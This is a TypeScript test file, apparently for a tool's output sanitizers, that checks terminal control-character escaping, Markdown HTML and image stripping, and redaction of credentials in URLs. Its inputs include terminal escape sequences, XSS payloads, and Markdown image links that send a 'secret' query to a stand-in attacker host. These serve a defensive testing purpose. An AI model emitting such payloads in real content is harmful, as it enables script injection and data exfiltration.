import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { markdownCell, markdownInline, markdownQuote, sanitizeMarkdown } from './markdown.js';
import { isTerminalSafe, sanitizeTerminal } from './terminal.js';
import { hasUrlCredentials, redactUrlCredentials } from './urls.js';

describe('sanitizeTerminal', () => {
  it('makes every control but newline and tab visible, and bidi overrides too', () => {
    expect(sanitizeTerminal('a\x1b[2Jb\x1b]0;t\x07c\rd\te\nf')).toBe('a␛[2Jb␛]0;t␇c␍d\te\nf');
    expect(sanitizeTerminal('\u202Eabc\u2066\u009b\u007f')).toBe('<U+202E>abc<U+2066><U+009B>␡');
    expect(sanitizeTerminal('line\r\nnext')).toBe('line\nnext');
  });

  it('leaves ordinary text, accents and emoji alone', () => {
    const text = 'Élan — “quoted” · 灯台 🚢\n\tindented';
    expect(sanitizeTerminal(text)).toBe(text);
    expect(isTerminalSafe(text)).toBe(true);
    expect(isTerminalSafe('x\x1b')).toBe(false);
  });
});

describe('Markdown sanitizer', () => {
  const render = (markdown: string): string => new MarkdownIt({ html: true }).render(markdown);

  it('escapes raw HTML and turns images into text, keeping ordinary Markdown', () => {
    const html = render(markdownQuote('**bold** [link](https://example.org)\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n![x](http://evil.example/?q=secret)\n![y][r]\n\n[r]: http://evil.example/r.png'));
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<a href="https://example.org">link</a>');
    expect(html).not.toMatch(/<script|<img|onerror="/u);
    expect(html).toContain('&lt;script&gt;');
  });

  it('keeps a table cell in its cell and an inline text on its line', () => {
    expect(markdownCell('a | b\nc')).toBe('a \\| b c');
    expect(markdownInline('fine\n# Accepted')).toBe('fine # Accepted');
    expect(sanitizeMarkdown('\x1b[2J<b>')).toBe('␛[2J&lt;b>');
  });
});

describe('credentials in URLs', () => {
  it('are redacted wherever a URL appears in a text', () => {
    expect(redactUrlCredentials('GET http://user:sk-1@host:8080/v1/chat failed; see https://a@b.example')).toBe('GET http://***@host:8080/v1/chat failed; see https://***@b.example');
    expect(redactUrlCredentials('no url here, mail me@example.org')).toBe('no url here, mail me@example.org');
    expect(hasUrlCredentials('http://user:KEY@host/v1')).toBe(true);
    expect(hasUrlCredentials('http://host/v1')).toBe(false);
  });
});
